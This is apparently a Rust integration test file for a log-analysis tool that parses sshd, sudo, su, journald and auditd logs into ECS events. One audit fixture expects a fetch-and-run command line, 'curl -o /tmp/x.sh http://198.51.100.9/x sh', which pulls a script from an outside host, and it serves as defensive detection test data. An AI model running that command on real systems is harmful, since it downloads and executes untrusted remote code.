//! Black-box tests of Linux host logs through the real binary, on the
//! hand-written files of `testdata/hostlogs/`: sshd, sudo and su in syslog
//! text and in a `journalctl -o json` export, and auditd's `audit.log`
//! (sniffed, mapped to ECS actions and outcomes), `lateral analyze` over
//! them, and audit input that gives nothing read as a warning with exit 3.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn run(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_lateral"))
        .args(args)
        .output()
        .expect("binary runs")
}

fn testdata(p: &str) -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("testdata/hostlogs")
        .join(p)
        .display()
        .to_string()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn docs(o: &Output) -> Vec<serde_json::Value> {
    assert_eq!(o.status.code(), Some(0), "stderr:\n{}", stderr(o));
    String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect()
}

/// (action, outcome, user, effective user) of each document.
fn summary(d: &[serde_json::Value]) -> Vec<(String, String, String, String)> {
    let s = |v: &serde_json::Value| v.as_str().unwrap_or("-").to_string();
    d.iter()
        .map(|e| {
            (
                s(&e["event"]["action"]),
                s(&e["event"]["outcome"]),
                s(&e["user"]["name"]),
                s(&e["user"]["effective"]["name"]),
            )
        })
        .collect()
}

fn row(a: &str, o: &str, u: &str, eff: &str) -> (String, String, String, String) {
    (a.into(), o.into(), u.into(), eff.into())
}

#[test]
fn syslog_sshd_sudo_and_su_as_ecs_events() {
    let d = docs(&run(&["events", &testdata("auth.log")]));
    assert_eq!(
        summary(&d),
        [
            row("logon-failed", "failure", "oracle", "-"),
            row("invalid-user", "failure", "oracle", "-"),
            row("logon-failed", "failure", "root", "-"),
            row("logon-failed", "failure", "deploy", "-"),
            row("logged-in", "success", "alice", "-"),
            row("session-opened", "success", "alice", "-"),
            row("sudo", "success", "alice", "root"),
            row("sudo-failed", "failure", "alice", "root"),
            row("sudo", "failure", "mallory", "root"),
            row("su", "success", "alice", "postgres"),
            row("session-opened", "success", "postgres", "alice"),
            row("su-failed", "failure", "alice", "root"),
            row("logged-in", "success", "bob", "-"),
        ]
    );
    assert_eq!(d[0]["source"]["ip"], "203.0.113.50");
    assert_eq!(d[0]["source"]["port"], 40110);
    assert_eq!(d[0]["event"]["reason"], "invalid_user");
    assert_eq!(d[3]["lateral"]["auth_method"], "publickey");
    let sudo = &d[6];
    assert_eq!(
        sudo["process"]["command_line"],
        "/usr/bin/systemctl restart nginx"
    );
    assert_eq!(sudo["labels"]["tty"], "pts/0");
    assert_eq!(sudo["labels"]["pwd"], "/home/alice");
    assert_eq!(d[9]["event"]["dataset"], "su");
    assert_eq!(d[9]["labels"]["tty"], "pts/0");
    assert_eq!(d[9]["event"]["category"][0], "authentication");
    assert!(d.iter().all(|e| e["host"]["name"] == "lnx7"));
}

#[test]
fn journal_export_gives_the_same_events_from_its_fields() {
    let o = run(&["events", "--stats", &testdata("journal.json")]);
    assert!(stderr(&o).contains("journal"), "{}", stderr(&o));
    let d = docs(&o);
    assert_eq!(
        summary(&d),
        [
            row("logon-failed", "failure", "root", "-"),
            row("logged-in", "success", "carol", "-"),
            row("sudo", "success", "carol", "root"),
            row("su", "success", "carol", "root"),
            row("su-failed", "failure", "carol", "oracle"),
        ]
    );
    assert!(d.iter().all(|e| e["host"]["name"] == "lnx9"));
    assert_eq!(d[0]["@timestamp"], "2024-03-04T10:00:00.000000Z");
    assert_eq!(d[1]["source"]["ip"], "10.1.2.5");
    assert_eq!(d[2]["labels"]["pwd"], "/srv");
}

#[test]
fn audit_log_is_sniffed_and_mapped() {
    let o = run(&["events", "--stats", &testdata("audit.log")]);
    let err = stderr(&o);
    assert!(err.contains("auditd"), "{err}");
    let d = docs(&o);
    assert_eq!(
        summary(&d),
        [
            row("authentication", "failure", "root", "-"),
            row("logon-failed", "failure", "root", "-"),
            row("logon-failed", "failure", "-", "-"),
            row("logged-in", "success", "alice", "-"),
            row("session-opened", "success", "alice", "-"),
            row("process-created", "success", "alice", "-"),
            row("sudo", "success", "alice", "-"),
            row("session-closed", "success", "alice", "-"),
            row("logged-out", "success", "alice", "-"),
        ]
    );
    assert!(d.iter().all(|e| e["event"]["dataset"] == "auditd"));
    assert!(d.iter().all(|e| e["host"]["name"] == "lnx8"));
    assert_eq!(d[0]["@timestamp"], "2024-03-04T09:00:01.100000Z");
    assert_eq!(d[1]["source"]["ip"], "203.0.113.50");
    assert_eq!(d[1]["lateral"]["logon_process"], "sshd");
    assert_eq!(d[2]["event"]["reason"], "invalid_user");
    assert_eq!(d[3]["source"]["ip"], "10.1.2.3");
    // One exec: the SYSCALL's process, the EXECVE's arguments and the
    // CWD's directory, joined by their serial into one event.
    let exec = &d[5];
    assert_eq!(
        exec["process"]["command_line"],
        "curl -o /tmp/x.sh http://198.51.100.9/x sh"
    );
    assert_eq!(exec["process"]["executable"], "/usr/bin/curl");
    assert_eq!(exec["labels"]["audit_serial"], "1010");
    assert_eq!(exec["labels"]["ppid"], "3020");
    assert_eq!(exec["labels"]["cwd"], "/home/alice");
    assert_eq!(d[6]["process"]["command_line"], "systemctl status sshd");
    assert_eq!(d[6]["labels"]["pwd"], "/home/alice");
}

#[test]
fn analyze_reads_every_host_log() {
    let dir = testdata("");
    let o = run(&["analyze", "--stats", &dir]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    // 13 events from auth.log, 5 from journal.json, 9 from audit.log.
    let err = stderr(&o);
    assert!(err.contains("files                  3"), "{err}");
    assert!(err.contains("(0 flows, 27 log events)"), "{err}");
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.starts_with("lateral analyze: "), "{out}");
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> String {
    let p = dir.join(name);
    std::fs::write(&p, bytes).unwrap();
    p.display().to_string()
}

#[test]
fn audit_input_that_gives_nothing_is_a_warning_and_exit_3() {
    let dir = tempfile::tempdir().unwrap();
    // Named as audit but not audit records: every line skipped.
    let junk = write(dir.path(), "junk.log", b"hello\nworld\n");
    for cmd in ["events", "analyze"] {
        let o = run(&[cmd, "-q", "--format", "auditd", &junk]);
        assert_eq!(o.status.code(), Some(3), "{}", stderr(&o));
        let err = stderr(&o);
        assert!(
            err.lines().any(|l| l.contains(&junk)
                && l.contains("all 2 record(s) were skipped")
                && l.contains("not an audit record")),
            "{err}"
        );
    }
    // Audit records of types that give no event: read, nothing wrong.
    let quiet = write(
        dir.path(),
        "audit.log",
        b"type=CWD msg=audit(1709542900.500:1010): cwd=\"/home/alice\"\n",
    );
    let o = run(&["events", "-q", &quiet]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(o.stdout.is_empty());
}
